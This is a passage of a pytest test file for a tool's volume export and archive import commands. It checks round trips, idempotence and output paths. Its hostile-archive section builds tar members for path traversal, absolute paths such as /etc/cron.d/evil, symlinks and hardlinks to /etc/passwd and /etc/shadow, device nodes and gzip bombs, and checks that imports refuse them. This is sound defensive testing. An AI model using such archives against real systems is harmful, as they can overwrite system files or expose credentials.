"""`cai export` and `cai import --from ARCHIVE` against a real engine: the "Done when" of issue 4.

Volumes are filled through the engine's archive API (a never-started container of the test
image with the volume at /v), so owners, modes, mtimes and symlinks are exactly as given.
Hostile archives are built here with `tarfile`; each must be refused before anything is written.
"""

from __future__ import annotations

import contextlib
import dataclasses
import functools
import gzip
import io
import json
import re
import shlex
import tarfile
import time
import uuid
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.support.cai import one_line
from tests.support.engine import (
    AGENT,
    TEST_IMAGE,
    Node,
    archive_of,
    containers_created,
    in_volume,
    put_archive,
    read_volume,
    volume_checksum,
    volume_containers,
    volume_exists,
    volume_root,
)
from tests.support.files import write_files

pytestmark = pytest.mark.engine

META = ".containai"
MANIFEST = ".containai/export.json"
DEFAULT_NAME = re.compile(r"^containai-export-\d{8}-\d{6}\.tgz$")
BASE = 1_600_000_000  # 2020-09-13: every mtime below is BASE plus a distinct offset


# -- building volumes and archives ---------------------------------------------------------------


@dataclass(frozen=True)
class Spec:
    """One path to put into a volume or an archive."""

    name: str
    kind: str = "file"  # file, dir, symlink, hardlink
    data: bytes = b""
    mode: int = 0o644
    uid: int = 1000
    gid: int = 1000
    mtime: int = BASE
    link: str = ""


def f(name: str, data: str | bytes = b"", **kw: Any) -> Spec:
    return Spec(name, "file", data.encode() if isinstance(data, str) else data, **kw)


def d(name: str, mode: int = 0o755, **kw: Any) -> Spec:
    return Spec(name, "dir", mode=mode, **kw)


def ln(name: str, target: str, **kw: Any) -> Spec:
    return Spec(name, "symlink", mode=0o777, link=target, **kw)


def tarinfo(spec: Spec) -> tarfile.TarInfo:
    info = tarfile.TarInfo(spec.name)
    info.type = {
        "file": tarfile.REGTYPE,
        "dir": tarfile.DIRTYPE,
        "symlink": tarfile.SYMTYPE,
        "hardlink": tarfile.LNKTYPE,
    }[spec.kind]
    info.mode = spec.mode
    info.uid, info.gid = spec.uid, spec.gid
    info.mtime = spec.mtime
    info.linkname = spec.link
    info.size = len(spec.data) if spec.kind == "file" else 0
    return info


def tar_of(members: Iterable[Spec | tuple[tarfile.TarInfo, bytes]]) -> bytes:
    """An uncompressed tar; a member is a Spec or a hand-made (TarInfo, data) pair."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for item in members:
            info, data = (tarinfo(item), item.data) if isinstance(item, Spec) else item
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return buffer.getvalue()


def tgz_of(members: Iterable[Spec | tuple[tarfile.TarInfo, bytes]]) -> bytes:
    return gzip.compress(tar_of(members))


def tgz_file(path: Path, members: Iterable[Spec | tuple[tarfile.TarInfo, bytes]]) -> Path:
    """``path``, written as the .tgz of ``members``."""
    path.write_bytes(tgz_of(members))
    return path


def populate(
    client: Any, volume: str, specs: Iterable[Spec], labels: dict[str, str] | None = None
) -> None:
    """Put `specs` into the volume (created with `labels` if absent) through a container that
    is created but never started."""
    if not any(v.name == volume for v in client.volumes.list(filters={"name": volume})):
        client.volumes.create(name=volume, labels=labels or {})
    put_archive(client, volume, tar_of(specs))


def changed(client: Any, volume: str, specs: Iterable[Spec]) -> dict[str, Node]:
    """Put ``specs`` into the volume (as the agent could); what it held before, as ``snapshot``
    gives it."""
    before = snapshot(client, volume)
    populate(client, volume, specs)
    return before


def user_files(files: dict[str, Node]) -> dict[str, Node]:
    """A volume's content without containai's own bookkeeping."""
    return {p: n for p, n in files.items() if p != META and not p.startswith(f"{META}/")}


def snapshot(client: Any, volume: str) -> dict[str, Node]:
    return user_files(read_volume(client, volume))


def volume_labels(client: Any, volume: str) -> dict[str, str]:
    return dict(client.volumes.get(volume).attrs.get("Labels") or {})


def tar_names(archive: Path) -> list[str]:
    with tarfile.open(archive, "r:gz") as tar:
        return [m.name for m in tar.getmembers()]


def manifest_of(archive: Path) -> tuple[dict[str, Any], bytes]:
    with tarfile.open(archive, "r:gz") as tar:
        handle = tar.extractfile(MANIFEST)
        assert handle is not None
        raw = handle.read()
    document: dict[str, Any] = json.loads(raw)
    return document, raw


def containers_started(client: Any, ids: set[str], start: int, end: int) -> set[str]:
    events = client.events(
        since=start, until=end, decode=True, filters={"type": "container", "event": "start"}
    )
    return {event["id"] for event in events} & ids


@pytest.fixture
def shell_image(monkeypatch: pytest.MonkeyPatch) -> None:
    """--replace deletes with `rm` in a container of engine.shell_image: use the local image."""
    monkeypatch.setenv("CONTAINAI_ENGINE__SHELL_IMAGE", TEST_IMAGE)


# -- the volume of the round trip ----------------------------------------------------------------

UNICODE_NAME = "données/ünïcødé-名前.txt"
UNICODE_DATA = "héllo wörld — 日本語 ✓\n".encode()
SECRET_TOKEN = f"SENTINEL-{uuid.uuid4().hex}"

ROUND_TRIP = [
    d(".claude", 0o755, mtime=BASE + 1000),
    f(".claude/settings.json", '{"theme": "dark"}\n', mtime=BASE + 2000),
    f(".claude.json", f'{{"token": "{SECRET_TOKEN}"}}\n', mode=0o600, mtime=BASE + 3000),
    d("a", mtime=BASE + 4000),
    ln("a/link", "../b/file", mtime=BASE + 5000),
    d("b", mtime=BASE + 6000),
    f("b/file", "the file a/link points at\n", mtime=BASE + 7000),
    Spec("b/hard", "hardlink", link="b/file"),
    d("b/nested", 0o750, mtime=BASE + 8000),
    d("b/nested/deeper", 0o700, mtime=BASE + 9000),
    f("b/nested/deeper/leaf.txt", "leaf\n", mode=0o640, mtime=BASE + 10000),
    d("empty", 0o755, mtime=BASE + 11000),
    d("données", mtime=BASE + 12000),
    f(UNICODE_NAME, UNICODE_DATA, mtime=BASE + 13000),
    f("owned-by-root.txt", "root's\n", uid=0, gid=0, mtime=BASE + 14000),
    f("owned-by-others.txt", "others'\n", uid=1234, gid=5678, mtime=BASE + 15000),
    d("rootdir", uid=0, gid=0, mtime=BASE + 16000),
    f("rootdir/inner.txt", "inner\n", mtime=BASE + 17000),
    d("bin", mtime=BASE + 18000),
    f("bin/run.sh", "#!/bin/sh\necho hi\n", mode=0o755, mtime=BASE + 19000),
    f("empty-file", b"", mtime=BASE + 20000),
    f("read-only.txt", "ro\n", mode=0o444, mtime=BASE + 21000),
    ln("top-link", ".claude/settings.json", mtime=BASE + 22000),
    ln("dir-link", "b/nested", mtime=BASE + 23000),
    ln("b/nested/deeper/up", "../../../a", mtime=BASE + 24000),
]
# (b/hard carries b/file's inode, so it shares b/file's mtime in the volume)


def export(cai: Any, volume: str, target: Path, *args: str) -> Path:
    result = cai("export", "--data-volume", volume, "-o", str(target), *args)
    assert result.code == 0, result.err
    assert result.out == f"{target}\n"
    return target


def restore(cai: Any, volume: str, archive: Path, *args: str) -> Any:
    result = cai("import", "--data-volume", volume, "--from", str(archive), *args)
    assert result.code == 0, result.err
    return result


@pytest.fixture
def volume_of(docker_client: Any, new_volume: Any) -> Callable[..., str]:
    """``volume_of(specs, labels=None)``: a new volume holding ``specs`` (see ``populate``)."""

    def make(specs: Iterable[Spec], labels: dict[str, str] | None = None) -> str:
        volume = new_volume("filled")
        populate(docker_client, volume, specs, labels)
        return volume

    return make


@pytest.fixture
def source_volume(volume_of: Any) -> str:
    return volume_of(ROUND_TRIP, labels={"containai.managed": "true"})


@pytest.fixture
def exported(cai: Any, source_volume: str, tmp_path: Path) -> Path:
    return export(cai, source_volume, tmp_path / "a.tgz")


@pytest.fixture
def restored_copy(cai: Any, new_volume: Any, exported: Path) -> str:
    """A new volume into which ``exported`` was restored."""
    target = new_volume("copy")
    restore(cai, target, exported)
    return target


# -- 1. round trip -------------------------------------------------------------------------------


def test_the_source_volume_holds_exactly_what_the_test_put_there(
    docker_client: Any, source_volume: str
) -> None:
    # Guards the round trip below: comparing A with B proves little if A is not what we think.
    files = read_volume(docker_client, source_volume)
    assert sorted(files) == sorted(s.name for s in ROUND_TRIP)
    for spec in ROUND_TRIP:
        node = files[spec.name]
        if spec.kind == "hardlink":
            assert node.data == files[spec.link].data
            continue
        assert node.kind == spec.kind, spec.name
        assert (node.uid, node.gid, node.mtime) == (spec.uid, spec.gid, spec.mtime), spec.name
        assert node.data == spec.data, spec.name
        assert node.linkname == spec.link, spec.name
        if spec.kind != "symlink":
            assert node.mode == spec.mode, spec.name


@pytest.mark.core
def test_export_then_restore_into_a_new_volume_reproduces_every_path(
    docker_client: Any, source_volume: str, restored_copy: str
) -> None:
    before = snapshot(docker_client, source_volume)
    after = snapshot(docker_client, restored_copy)
    assert sorted(after) == sorted(before)
    for path, node in before.items():
        got = after[path]
        assert got.kind == node.kind, path
        assert got.data == node.data, path
        assert got.mode == node.mode, f"{path}: {got.mode:o} != {node.mode:o}"
        # Whatever the archive says, what a restore writes belongs to the agent (issue 13).
        assert (got.uid, got.gid) == (1000, 1000), path
        assert got.linkname == node.linkname, path
        if node.kind != "dir":
            assert got.mtime == node.mtime, path


def test_a_round_trip_keeps_directory_mtimes_too(
    docker_client: Any, source_volume: str, restored_copy: str
) -> None:
    before = snapshot(docker_client, source_volume)
    after = snapshot(docker_client, restored_copy)
    wrong = {
        path: (after[path].mtime, node.mtime)
        for path, node in before.items()
        if node.kind == "dir" and after.get(path, node).mtime != node.mtime
    }
    assert wrong == {}


@pytest.mark.core
def test_a_round_trip_keeps_hard_links_as_one_file(docker_client: Any, restored_copy: str) -> None:
    with tarfile.open(fileobj=io.BytesIO(archive_of(docker_client, restored_copy, "/v/b"))) as tar:
        kinds = {m.name: m.type for m in tar.getmembers()}
    # The engine lists the second name of a shared inode as a hard link to the first.
    assert sorted([kinds["b/file"], kinds["b/hard"]]) == sorted([tarfile.REGTYPE, tarfile.LNKTYPE])


def test_a_file_and_a_directory_dated_at_the_epoch_keep_their_mtime(
    cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path, volume_of: Any
) -> None:
    source = volume_of([d("old", mtime=0), f("old/epoch.txt", "1970\n", mtime=0)])
    archive = export(cai, source, tmp_path / "epoch.tgz")
    target = new_volume("epoch-dst")

    restore(cai, target, archive)

    files = snapshot(docker_client, target)
    assert files["old/epoch.txt"].mtime == 0
    assert files["old"].mtime == 0


def test_a_name_that_is_not_utf8_round_trips(
    cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path
) -> None:
    source = new_volume("latin1")
    name = b"caf\xe9.txt".decode("utf-8", "surrogateescape")
    buffer = io.BytesIO()
    with tarfile.open(
        fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT, errors="surrogateescape"
    ) as tar:
        tar.addfile(
            tarinfo(f(name, "latin-1 name\n", mtime=BASE + 5)), io.BytesIO(b"latin-1 name\n")
        )
    put_archive(docker_client, source, buffer.getvalue())
    before = snapshot(docker_client, source)
    assert len(before) == 1
    archive = export(cai, source, tmp_path / "latin1.tgz")
    assert cai("export", "--verify", str(archive)).code == 0
    target = new_volume("latin1-dst")

    restore(cai, target, archive)

    assert snapshot(docker_client, target) == before


def test_a_second_generation_export_matches_the_first(
    cai: Any,
    docker_client: Any,
    new_volume: Any,
    source_volume: str,
    exported: Path,
    tmp_path: Path,
) -> None:
    # Export the restored volume again: containai's bookkeeping stays out, the tree is the same.
    middle = new_volume("gen2")
    restore(cai, middle, exported)
    again = export(cai, middle, tmp_path / "again.tgz")

    assert sorted(tar_names(again)) == sorted(tar_names(exported))
    assert not [n for n in tar_names(again) if n.startswith(f"{META}/") and n != MANIFEST]
    assert manifest_of(again)[0]["files"] == manifest_of(exported)[0]["files"]
    last = new_volume("gen3")
    restore(cai, last, again)
    # The same tree, owners aside: restores give everything to the agent (issue 13).
    assert snapshot(docker_client, last) == snapshot(docker_client, middle)
    assert {
        path: dataclasses.replace(node, uid=0, gid=0)
        for path, node in snapshot(docker_client, last).items()
    } == {
        path: dataclasses.replace(node, uid=0, gid=0)
        for path, node in snapshot(docker_client, source_volume).items()
    }


def test_a_hard_link_whose_first_name_is_excluded_is_exported_with_its_content(
    cai: Any,
    isolated_env: Path,
    docker_client: Any,
    new_volume: Any,
    tmp_path: Path,
    volume_of: Any,
) -> None:
    source = volume_of(
        [
            d("aaa"),
            f("aaa/original.txt", "shared content\n", mtime=BASE + 9),
            d("zzz"),
            Spec("zzz/second-name.txt", "hardlink", link="aaa/original.txt"),
        ]
    )
    write_files(isolated_env, {".config/containai/containai.toml": 'excludes = ["aaa/"]\n'})

    archive = export(cai, source, tmp_path / "hardex.tgz")

    assert "aaa/original.txt" not in tar_names(archive)
    assert cai("export", "--verify", str(archive)).code == 0
    target = new_volume("hardex-dst")
    restore(cai, target, archive)
    node = snapshot(docker_client, target)["zzz/second-name.txt"]
    assert node.data == b"shared content\n"
    assert node.mtime == BASE + 9


@pytest.mark.parametrize(
    ("link", "target"),
    [(".claude/skill", "/home/agent/workspace/skills/mine"), ("up", "../..")],
    ids=["absolute", "climbing-out"],
)
def test_every_export_of_a_volume_can_be_restored(
    link: str,
    target: str,
    cai: Any,
    docker_client: Any,
    new_volume: Any,
    tmp_path: Path,
    volume_of: Any,
) -> None:
    # A volume may hold symlinks a restore refuses (absolute, or climbing out of the volume),
    # e.g. a skill linked into the workspace, made by the agent in its container. The export of
    # such a volume must still be a backup that restores (at least everything else in it).
    source = volume_of([d(".claude"), f(".claude/settings.json", "{}\n")])
    # The archive API refuses to create a climbing symlink; the agent's `ln -s` does not.
    in_volume(docker_client, source, f"ln -s {shlex.quote(target)} {shlex.quote(f'/v/{link}')}")
    assert snapshot(docker_client, source)[link].linkname == target
    archive = export(cai, source, tmp_path / "outlink.tgz")
    destination = new_volume("outlink-dst")

    result = cai("import", "--data-volume", destination, "--from", str(archive))

    assert result.code == 0, result.err
    assert snapshot(docker_client, destination)[".claude/settings.json"].data == b"{}\n"


def test_the_export_holds_the_tree_with_relative_names_and_a_manifest(
    exported: Path, source_volume: str
) -> None:
    names = tar_names(exported)
    assert names[-1] == MANIFEST  # written last
    assert sorted(n for n in names if n != MANIFEST) == sorted(s.name for s in ROUND_TRIP)
    document, _ = manifest_of(exported)
    assert document["format"] == "containai-export"
    assert document["format_version"] == 1
    assert document["volume"]["name"] == source_volume
    assert document["volume"]["labels"] == {"containai.managed": "true"}
    assert document["options"]["secrets"] is True
    regular = {s.name: s for s in ROUND_TRIP if s.kind == "file"}
    listed = document["files"]
    assert set(regular) <= set(listed)
    assert listed[".claude.json"]["secret"] is True
    assert listed["b/file"]["secret"] is False
    assert listed[UNICODE_NAME]["size"] == len(UNICODE_DATA)


@pytest.mark.core
def test_export_verify_accepts_a_fresh_export(cai: Any, exported: Path) -> None:
    result = cai("export", "--verify", str(exported))

    assert result.code == 0, result.err
    assert "ok" in result.err


def test_export_verify_json_reports_no_problems(cai: Any, exported: Path) -> None:
    result = cai("export", "--verify", str(exported), "--json")

    assert result.code == 0, result.err
    document = json.loads(result.out)
    assert document["ok"] is True
    assert document["manifest"] is True
    assert (document["missing"], document["extra"], document["corrupt"]) == ([], [], [])


# -- 2. idempotence and --replace ----------------------------------------------------------------


@pytest.mark.core
def test_restoring_the_same_archive_twice_changes_nothing(
    cai: Any, docker_client: Any, exported: Path, restored_copy: str
) -> None:
    target = restored_copy
    first = volume_checksum(docker_client, target)
    time.sleep(1.1)  # a rewritten file would get a new mtime: make that visible

    second_run = restore(cai, target, exported, "--json")

    second = volume_checksum(docker_client, target)
    outside = {p: v for p, v in second.items() if not p.startswith(f"{META}/") and p != META}
    assert outside == {p: v for p, v in first.items() if p in outside}
    assert set(second) == set(first)
    # containai's state record says the same (its file is rewritten each run: mtime differs).
    assert second[f"{META}/state.json"][5] == first[f"{META}/state.json"][5]
    assert json.loads(second_run.out)["result"]["files_sent"] == 0


def test_after_a_restore_a_dry_run_of_the_same_archive_plans_no_change(
    cai: Any, exported: Path, restored_copy: str
) -> None:
    target = restored_copy

    result = restore(cai, target, exported, "--dry-run", "--json")

    changes = {
        item["path"]: item["action"]
        for item in json.loads(result.out)["items"]
        if item["action"] != "unchanged"
    }
    assert changes == {}


def test_a_hard_link_changed_in_the_volume_is_restored(
    cai: Any, docker_client: Any, exported: Path, restored_copy: str
) -> None:
    # b/hard is a second name of b/file in the archive. In the volume it was replaced by
    # another file; b/file itself is unchanged.
    target = restored_copy
    populate(docker_client, target, [f("b/hard", "tampered\n", mtime=BASE + 7000)])

    restore(cai, target, exported)

    files = snapshot(docker_client, target)
    assert files["b/hard"].data == files["b/file"].data == b"the file a/link points at\n"


@pytest.mark.usefixtures("shell_image")
@pytest.mark.core
def test_a_file_added_to_the_volume_survives_a_restore_and_goes_with_replace(
    cai: Any, docker_client: Any, exported: Path, restored_copy: str
) -> None:
    target = restored_copy
    extra = [f("extra.txt", "mine\n"), d("extra-dir"), f("extra-dir/inner.txt", "mine too\n")]
    restored = changed(docker_client, target, extra)
    with_extra = snapshot(docker_client, target)

    restore(cai, target, exported)

    assert snapshot(docker_client, target) == with_extra

    result = restore(cai, target, exported, "--replace")

    assert snapshot(docker_client, target) == restored
    assert "extra.txt" not in snapshot(docker_client, target)
    assert "Traceback" not in result.err


@pytest.mark.usefixtures("shell_image")
def test_replace_leaves_a_directory_that_held_an_extra_file_as_in_the_archive(
    cai: Any, docker_client: Any, exported: Path, restored_copy: str
) -> None:
    # --replace is the exact replacement: afterwards every archive path is as the archive has
    # it, including the directory the extra file was deleted from.
    target = restored_copy
    restored = changed(docker_client, target, [f("b/nested/extra.txt", "mine\n")])

    restore(cai, target, exported, "--replace")

    after = snapshot(docker_client, target)
    assert "b/nested/extra.txt" not in after
    assert after == restored


@pytest.mark.core
def test_a_restore_puts_back_a_file_changed_in_the_volume(
    cai: Any, docker_client: Any, exported: Path, restored_copy: str
) -> None:
    target = restored_copy
    edited = f("b/file", "edited in the container\n", mode=0o600, uid=0, gid=0, mtime=BASE)
    restored = changed(docker_client, target, [edited])

    restore(cai, target, exported)

    after = snapshot(docker_client, target)
    assert after["b/file"] == restored["b/file"]
    assert after["b/hard"].data == restored["b/hard"].data


# -- 3. the output path --------------------------------------------------------------------------


@pytest.fixture
def small_volume(volume_of: Any) -> str:
    return volume_of([d(".claude"), f(".claude/settings.json", "{}\n")])


def no_partials(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".partial"))


def test_output_to_a_named_file_relative_to_the_current_directory(
    cai: Any, small_volume: str
) -> None:
    result = cai("export", "--data-volume", small_volume, "-o", "backup.tgz")

    assert result.code == 0, result.err
    expected = Path.cwd() / "backup.tgz"
    assert result.out == f"{expected}\n"
    assert Path(result.out.strip()).is_absolute()
    assert expected.is_file()
    assert sorted(p.name for p in Path.cwd().iterdir()) == ["backup.tgz"]


def test_output_to_a_file_with_any_suffix_is_taken_literally(
    cai: Any, small_volume: str, tmp_path: Path
) -> None:
    target = tmp_path / "backup.data"

    result = cai("export", "--data-volume", small_volume, "-o", str(target))

    assert result.code == 0, result.err
    assert result.out == f"{target}\n"
    assert MANIFEST in tar_names(target)


def test_output_to_an_existing_directory_uses_the_default_name_inside(
    cai: Any, small_volume: str, tmp_path: Path
) -> None:
    folder = tmp_path / "backups"
    folder.mkdir()

    result = cai("export", "--data-volume", small_volume, "-o", str(folder))

    assert result.code == 0, result.err
    made = Path(result.out.removesuffix("\n"))
    assert result.out == f"{made}\n"
    assert made.parent == folder
    assert DEFAULT_NAME.match(made.name), made.name
    assert [p.name for p in folder.iterdir()] == [made.name]


def test_output_to_a_directory_given_with_a_trailing_slash(
    cai: Any, small_volume: str, tmp_path: Path
) -> None:
    folder = tmp_path / "slash"
    folder.mkdir()

    result = cai("export", "--data-volume", small_volume, "-o", f"{folder}/")

    assert result.code == 0, result.err
    made = Path(result.out.strip())
    assert made.parent == folder
    assert DEFAULT_NAME.match(made.name), made.name
    assert made.is_file()


def test_no_output_writes_the_default_name_in_the_current_directory(
    cai: Any, small_volume: str
) -> None:
    result = cai("export", "--data-volume", small_volume)

    assert result.code == 0, result.err
    made = Path(result.out.strip())
    assert result.out == f"{made}\n"
    assert made.parent == Path.cwd()
    assert DEFAULT_NAME.match(made.name), made.name
    assert [p.name for p in Path.cwd().iterdir()] == [made.name]


@pytest.mark.parametrize("output", ["missing/out.tgz", "missing/", "missing/deeper/out.tgz"])
def test_a_missing_parent_directory_is_a_usage_error_that_creates_nothing(
    output: str, cai: Any, small_volume: str
) -> None:
    result = cai("export", "--data-volume", small_volume, "-o", output)

    assert result.code == 2
    assert result.out == ""
    assert "does not exist" in one_line(result.err)
    assert list(Path.cwd().iterdir()) == []


def test_messages_go_to_stderr_and_stdout_is_only_the_path(
    cai: Any, small_volume: str, tmp_path: Path
) -> None:
    target = tmp_path / "v.tgz"

    result = cai("export", "--data-volume", small_volume, "-o", str(target), "--verbose")

    assert result.code == 0, result.err
    assert result.out == f"{target}\n"
    assert "exported 1 files" in result.err
    assert small_volume in result.err


def test_json_output_names_the_archive(cai: Any, small_volume: str, tmp_path: Path) -> None:
    target = tmp_path / "j.tgz"

    result = cai("export", "--data-volume", small_volume, "-o", str(target), "--json")

    assert result.code == 0, result.err
    document = json.loads(result.out)
    assert document["archive"] == str(target)
    assert document["volume"] == small_volume
    assert document["files"] == 1
    assert target.is_file()


def test_exporting_a_missing_volume_fails_and_leaves_no_file(
    cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path
) -> None:
    volume = new_volume("absent")
    target = tmp_path / "never.tgz"

    result = cai("export", "--data-volume", volume, "-o", str(target))

    assert result.code == 1
    line = one_line(result.err)
    assert volume in line
    assert "does not exist" in line
    assert result.out == ""
    assert not target.exists()
    assert no_partials(tmp_path) == []
    assert not volume_exists(docker_client, volume)


def test_an_interrupted_export_leaves_the_old_file_and_no_partial(
    cai: Any, small_volume: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import containai.steps.exporting as exporting

    def interrupted(stream: Any, out: Any, request: Any, fetch: Any) -> Any:
        out.write(b"\x1f\x8b half an archive")
        raise KeyboardInterrupt

    monkeypatch.setattr(exporting, "write_archive", interrupted)
    target = tmp_path / "keep.tgz"
    target.write_bytes(b"the previous backup")

    result = cai("export", "--data-volume", small_volume, "-o", str(target), "--force")

    assert result.code == 130
    assert result.out == ""
    assert target.read_bytes() == b"the previous backup"
    assert no_partials(tmp_path) == []
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["home", "work", "keep.tgz"]), list(
        tmp_path.iterdir()
    )


# -- 4. hostile archives -------------------------------------------------------------------------


def member(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", **kw: Any) -> Any:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.size = len(data) if kind in (tarfile.REGTYPE, tarfile.AREGTYPE) else 0
    info.mode = kw.pop("mode", 0o755 if kind == tarfile.DIRTYPE else 0o644)
    info.uid, info.gid = AGENT
    info.mtime = BASE
    for key, value in kw.items():
        setattr(info, key, value)
    return (info, data)


LONG_COMPONENT = "x" * 300
LONG_PATH = "/".join(["y" * 200] * 25)  # 5024 bytes, every component within NAME_MAX

# (id, members, the name the message must show)
HOSTILE_TARS: list[tuple[str, list[Any], str]] = [
    ("absolute-name", [member("/etc/cron.d/evil", data=b"x")], "/etc/cron.d/evil"),
    ("dot-dot", [member("../evil", data=b"x")], "../evil"),
    ("dot-dot-inside", [member("a/../../evil", data=b"x")], "a/../../evil"),
    (
        "file-through-symlink",
        [
            member("sub", tarfile.DIRTYPE),
            member("via", tarfile.SYMTYPE, linkname="sub"),
            member("via/evil", data=b"x"),
        ],
        "via/evil",
    ),
    (
        "symlink-escaping",
        [member("d", tarfile.DIRTYPE), member("d/out", tarfile.SYMTYPE, linkname="../../etc")],
        "d/out",
    ),
    ("symlink-absolute", [member("abs", tarfile.SYMTYPE, linkname="/etc/passwd")], "abs"),
    (
        "symlink-through-symlink",
        [
            member("x", tarfile.DIRTYPE),
            member("x/up", tarfile.SYMTYPE, linkname=".."),
            member("t", tarfile.SYMTYPE, linkname="x/up/.."),
        ],
        "t",
    ),
    ("hardlink-absolute", [member("hl", tarfile.LNKTYPE, linkname="/etc/shadow")], "hl"),
    ("hardlink-dot-dot", [member("hl", tarfile.LNKTYPE, linkname="../outside")], "hl"),
    ("hardlink-not-in-archive", [member("hl", tarfile.LNKTYPE, linkname="nowhere")], "hl"),
    (
        "hardlink-to-a-later-member",
        [member("hl", tarfile.LNKTYPE, linkname="later"), member("later", data=b"x")],
        "hl",
    ),
    ("char-device", [member("dev/null2", tarfile.CHRTYPE, devmajor=1, devminor=3)], "dev/null2"),
    ("block-device", [member("sda", tarfile.BLKTYPE, devmajor=8, devminor=0)], "sda"),
    ("fifo", [member("pipe", tarfile.FIFOTYPE)], "pipe"),
    (
        "duplicate-file-then-symlink",
        [member("dup", data=b"x"), member("dup", tarfile.SYMTYPE, linkname="elsewhere")],
        "dup",
    ),
    (
        "duplicate-dir-then-file",
        [member("dup", tarfile.DIRTYPE), member("dup", data=b"x")],
        "dup",
    ),
    ("long-component", [member(f"d/{LONG_COMPONENT}", data=b"x")], "xxxxxxxxxx"),
    ("long-path", [member(LONG_PATH, data=b"x")], "yyyyyyyyyy"),
    (
        "newline-in-a-bad-name",
        [member("../evil\nsecond line", data=b"x")],
        "../evil\\nsecond line",
    ),
    (
        "manifest-as-symlink",
        [member(".containai", tarfile.DIRTYPE), member(MANIFEST, tarfile.SYMTYPE, linkname="x")],
        MANIFEST,
    ),
]


@pytest.fixture
def restored_volume(cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path) -> str:
    """Volume B after a normal restore: the target every hostile archive must leave alone."""
    volume = new_volume("victim")
    good = tgz_file(
        tmp_path / "good.tgz",
        [d(".claude"), f(".claude/settings.json", "{}\n"), f("keep.txt", "kept\n")],
    )
    restore(cai, volume, good)
    return volume


def assert_refused(cai: Any, client: Any, volume: str, archive: Path, *names: str) -> str:
    """`cai import --from archive` fails with one line naming `names`; the volume is unchanged."""
    before = volume_checksum(client, volume)
    result = cai("import", "--data-volume", volume, "--from", str(archive))
    assert result.code == 1, result.err
    line = one_line(result.err)
    for name in names:
        assert name in line, line
    assert result.out == ""
    assert volume_checksum(client, volume) == before
    return line


@pytest.fixture
def refused(cai: Any, docker_client: Any, restored_volume: str) -> Callable[..., str]:
    """``refused(archive, *names)``: ``assert_refused`` of ``archive`` into ``restored_volume``."""
    return functools.partial(assert_refused, cai, docker_client, restored_volume)


@pytest.fixture
def small_restore_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CONTAINAI_EXPORT__MAX_RESTORE_BYTES", "1000000")


@pytest.mark.parametrize(
    ("members", "shown"), [(m, s) for _, m, s in HOSTILE_TARS], ids=[i for i, _, _ in HOSTILE_TARS]
)
def test_a_hostile_archive_is_refused_naming_the_member(
    refused: Any, members: list[Any], shown: str, cai: Any, tmp_path: Path
) -> None:
    archive = tgz_file(tmp_path / "bad.tgz", members)

    line = refused(archive, shown)

    assert "unsafe archive member" in line
    verify = cai("export", "--verify", str(archive))
    assert verify.code == 1
    assert shown in one_line(verify.err)


@pytest.mark.usefixtures("small_restore_limit")
def test_a_gzip_bomb_beyond_the_configured_limit_is_refused(refused: Any, tmp_path: Path) -> None:
    archive = tgz_file(
        tmp_path / "bomb.tgz", [f("small.txt", "ok\n"), f("bomb.bin", b"\0" * 2_000_000)]
    )
    assert archive.stat().st_size < 20_000

    line = refused(archive, "bomb.bin", "1000000")

    assert "limit" in line


@pytest.mark.usefixtures("small_restore_limit")
def test_many_small_members_add_up_to_a_bomb(refused: Any, tmp_path: Path) -> None:
    archive = tgz_file(tmp_path / "many.tgz", [f(f"part{i}", b"\0" * 300_000) for i in range(5)])

    refused(archive, "part3")


def test_zeros_after_the_end_of_the_tar_are_a_bomb_too(refused: Any, tmp_path: Path) -> None:
    archive = tmp_path / "trailer.tgz"
    archive.write_bytes(gzip.compress(tar_of([f("a.txt", "a\n")]) + b"\0" * 8_000_000))

    refused(archive, str(archive))


def test_a_truncated_archive_is_refused_naming_the_file(refused: Any, tmp_path: Path) -> None:
    whole = tgz_of([f(f"file{i}.txt", uuid.uuid4().hex * 200) for i in range(20)])
    archive = tmp_path / "truncated.tgz"
    archive.write_bytes(whole[: len(whole) // 2])

    line = refused(archive, str(archive))

    assert "truncated" in line or "corrupt" in line


def test_an_archive_cut_at_a_member_boundary_is_refused(refused: Any, tmp_path: Path) -> None:
    # The tar data is complete up to a member but the gzip stream has no end: the CRC check
    # (which tarfile's own stream reader skips) is what catches it.
    raw = tar_of([f("one.txt", "1\n"), f("two.txt", "2\n")])
    compressor = zlib.compressobj(6, zlib.DEFLATED, 31)  # 31: with a gzip header
    body = compressor.compress(raw) + compressor.flush(zlib.Z_SYNC_FLUSH)
    archive = tmp_path / "no-trailer.tgz"
    archive.write_bytes(body)

    refused(archive, str(archive))


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"just some text, not an archive\n", "not"),
        (b"", "empty"),
        (b"PK\x03\x04 a zip file", "not"),
    ],
    ids=["text", "empty", "zip"],
)
def test_a_file_that_is_not_a_gzip_tar_is_refused_naming_it(
    refused: Any, content: bytes, words: str, tmp_path: Path
) -> None:
    archive = tmp_path / "not-an-archive.tgz"
    archive.write_bytes(content)

    line = refused(archive, str(archive))

    assert words in line


def test_an_uncompressed_tar_is_refused(refused: Any, tmp_path: Path) -> None:
    archive = tmp_path / "plain.tgz"
    archive.write_bytes(tar_of([f("a.txt", "a\n")]))

    refused(archive, str(archive))


def test_gzip_of_something_that_is_not_tar_is_refused(refused: Any, tmp_path: Path) -> None:
    archive = tmp_path / "notar.tgz"
    archive.write_bytes(gzip.compress(b"hello, I am not a tar archive at all\n" * 40))

    refused(archive, str(archive))


def test_a_hostile_archive_is_refused_before_any_container_is_created(
    cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path
) -> None:
    volume = new_volume("untouched")
